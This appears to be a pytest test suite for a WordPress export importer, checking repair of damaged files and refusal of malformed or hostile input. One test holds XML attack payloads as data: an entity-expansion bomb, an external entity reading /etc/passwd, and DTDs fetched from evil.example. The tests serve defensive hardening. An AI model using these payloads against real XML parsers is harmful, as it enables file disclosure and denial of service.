"""Exports of WordPress as files: whatever they hold, articles or a sentence and nothing."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from articles.importers.records import Failure, Record, SourceUnreadable, TaxonomyTerm
from articles.importers.wordpress import damaged_text
from articles.importers.wordpress import reader as wordpress_reader
from tests.importers.wordpress_samples import (
    FOOT,
    HEAD,
    POST,
    Read,
    comment,
    elements,
    filed,
    post,
    records,
    sentence,
)
from tests.processor_time import at_most

pytestmark = pytest.mark.usefixtures("in_english")


FUZZED = settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


# Files as they come


@pytest.mark.parametrize("version", ["1.0", "1.1", "1.2", "9.9"])
def test_any_version_is_read(read_export: Read, version: str) -> None:
    text = (HEAD + post() + FOOT).replace("export/1.2/", f"export/{version}/")
    assert len(records(read_export(text.replace(">1.2<", ">abc<")))) == 1


def test_other_prefixes_mean_the_same(read_export: Read) -> None:
    text = (HEAD + post() + FOOT).replace("wp:", "ns0:").replace("xmlns:wp", "xmlns:ns0")
    text = text.replace('xmlns:wp="', 'xmlns:ns0="')
    assert records(read_export(text))[0].external_id == "wp:mondo.example:12"


@pytest.mark.parametrize(
    ("change", "title"),
    [
        (lambda text: "\n\n \n" + text, "La tregua"),
        (lambda text: "\ufeff" + text, "La tregua"),
        (lambda text: text.replace("<item>", "<item><atom:link a:b='c'/>"), "La tregua"),
        (lambda text: text.replace("<![CDATA[La tregua]]>", "Uno & due &c. &foo; &nbsp;3"),
         "Uno & due &c. &foo; \xa03"),
        (lambda text: text.replace("La tregua", "La\x00 tre\x0bgua\x1f"), "La tregua"),
        (lambda text: text.replace("<![CDATA[La tregua]]>", "La&#0; tre&#x1F;gua"), "La tregua"),
        (lambda text: text.replace("La tregua", "a ]]> b ]]> c<![CDATA["), "a b ]]> c"),
        (lambda text: text.replace("<![CDATA[La tregua]]>", "<![CDATA[La ]]><![CDATA[tregua]]>"),
         "La tregua"),
        (lambda text: text.replace("<title>", "<title><!-- <a> & ]]> -- -->"), "La tregua"),
        (lambda text: text.replace("<channel>", "<?php & ?><channel>"), "La tregua"),
        (lambda text: text.encode("utf-16"), "La tregua"),
        (lambda text: text.replace("UTF-8", "iso-8859-1").replace("tregua", "città")
         .encode("iso-8859-1"), "La città"),
        (lambda text: text.encode().replace(b"tregua", b"citt\xe0"), "La città"),
        (lambda text: text.replace("UTF-8", "rot13"), "La tregua"),
        (lambda text: text.replace("\n", "\r\n"), "La tregua"),
    ],
)  # fmt: skip
def test_common_damage_is_mended(
    read_export: Read, change: Callable[[str], str | bytes], title: str
) -> None:
    assert records(read_export(change(HEAD + post() + FOOT)))[0].title == title


@given(size=st.integers(1, 60))
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_where_the_file_is_cut_for_reading_makes_no_difference(
    read_export: Read, monkeypatch: pytest.MonkeyPatch, size: int
) -> None:
    title = "è &amp; &#233; &eacute; & <![CDATA[<b>]]> ]]> <!-- <x> --><![CDATA[]]]]><![CDATA[>]]>"
    content = HEAD + post(title=title) + FOOT
    whole = read_export(content)
    with monkeypatch.context() as patched:
        patched.setattr(damaged_text, "CHUNK", size)
        assert read_export(content) == whole
    assert records(whole)[0].title == "è & é é & ]]> ]]>"


# What is refused


def test_a_cut_file_is_refused_wherever_it_is_cut(read_export: Read) -> None:
    content = (HEAD + post(comment(1)) + post(title="<![CDATA[Altro]]>") + FOOT).encode()
    whole = len(content.rstrip())
    for size in range(0, whole, max(whole // 150, 1)):
        assert sentence(read_export, content[:size])
    assert "line" in sentence(read_export, content[: whole - 3])


BOMB = """<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>"""


@pytest.mark.parametrize(
    "declaration",
    [
        BOMB,
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
        "<!doctype html>",
        "<!DOCTYPE rss>",
    ],
)
def test_a_document_type_is_refused(read_export: Read, declaration: str) -> None:
    text = HEAD.replace("<rss", f"{declaration}<rss") + post(title="&d;&x;") + FOOT
    assert "Line 3" in sentence(read_export, text)
    assert "Line" in sentence(read_export, HEAD + declaration + post() + FOOT)


def test_names_of_entities_are_only_text(read_export: Read) -> None:
    (record,) = records(read_export(HEAD + post(title="&x;&lol9;") + FOOT))
    assert record.title == "&x;&lol9;"


@pytest.mark.parametrize(
    ("content", "word"),
    [
        ("", "line 1"),
        ("ciao", "XML"),
        ("PK\x03\x04xxxx", "ZIP"),
        ("\x00\x01\x02", "line 1"),
        ("<html><body>x</body></html>", "<html>"),
        ("<rss><x/></rss>", "<x>"),
        ("<rss><channel><item><title>a</title></item></channel></rss>", "feed"),
        (HEAD + "<item></wp:item>" + FOOT, "Line 25"),
        (HEAD + post() + FOOT + "<rss/>", "Line"),
        (HEAD + post() + "</rss>", "Line"),
        (HEAD + "<item " + "a" * 1_500_000 + "/>" + FOOT, "tag"),
        (HEAD + "<item a='" + "> " * 1_500_000 + "'/>" + FOOT, "tag"),
        (HEAD + "<item>" + "<a>" * 100 + FOOT, "elements"),
    ],
)
def test_what_is_no_export_is_refused_with_a_sentence(
    read_export: Read, content: str, word: str
) -> None:
    assert word in sentence(read_export, content)


def test_a_missing_file_is_refused_with_a_sentence(tmp_path: Path) -> None:
    for path in (tmp_path / "none.xml", tmp_path):
        with pytest.raises(SourceUnreadable):
            list(wordpress_reader.read(path))


@pytest.mark.parametrize(("limit", "module"), [("MOST_OF_ONE", "wordpress.xml_stream"),
                                               ("MOST_KEPT", "wordpress.site")])  # fmt: skip
def test_what_is_too_large_is_refused(
    read_export: Read, monkeypatch: pytest.MonkeyPatch, limit: str, module: str
) -> None:
    monkeypatch.setattr(f"articles.importers.{module}.{limit}", 900)
    assert sentence(read_export, HEAD + post() + FOOT)


@pytest.mark.parametrize("piece", ["<!--a-->", "<?a?>", "&", "]]>", "<a/>", "<![CDATA[]]>"])
def test_hostile_files_cost_no_more_than_others(read_export: Read, piece: str) -> None:
    with at_most(40):
        read_export(HEAD + "<item>" + piece * (500_000 // len(piece)) + "</item>" + FOOT)


def only_items_or_a_sentence(path: Path) -> None:
    try:
        for item in wordpress_reader.read(path):
            assert isinstance(item, Record | Failure | TaxonomyTerm)
            if isinstance(item, Record):
                item.as_json()
    except SourceUnreadable as problem:
        assert str(problem)


@given(content=st.binary(max_size=300))
@FUZZED
def test_whatever_the_bytes(tmp_path: Path, content: bytes) -> None:
    for start in (b"", HEAD.encode()):
        path = tmp_path / "bytes.xml"
        path.write_bytes(start + content)
        only_items_or_a_sentence(path)


@given(data=st.data())
@FUZZED
def test_whatever_bits_are_flipped(tmp_path: Path, data: Any) -> None:
    content = bytearray((HEAD + post(comment(1) + filed("category", "asia", "A")) + FOOT).encode())
    for _turn in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(content) - 1))
        content[at] ^= 1 << data.draw(st.integers(0, 7))
    path = tmp_path / "flipped.xml"
    path.write_bytes(content)
    only_items_or_a_sentence(path)


VALUE = st.text(st.characters(exclude_categories=["Cs"]), max_size=30) | st.sampled_from(
    ["0000-00-00 00:00:00", "9999-12-31 23:59:59", "https://[", "//x", "/?p=12", "%ff", "1", "-1"]
)


@given(values=st.dictionaries(st.sampled_from([*POST, "pubDate"]), VALUE), said=st.lists(VALUE))
@FUZZED
def test_whatever_the_fields_say(tmp_path: Path, values: dict[str, str], said: list[str]) -> None:
    spelled = {name: value.replace("<", "&lt;") for name, value in values.items()}
    words = [word.replace("<", "&lt;").replace('"', "&quot;") for word in said]
    more = "".join(filed("category", word, "x") for word in words)
    comments = "".join(comment(1, parent=word, date_gmt=word, author=word) for word in words)
    path = tmp_path / "fields.xml"
    path.write_text(f"{HEAD}<item>{elements(POST | spelled)}{more}{comments}</item>{FOOT}")
    only_items_or_a_sentence(path)
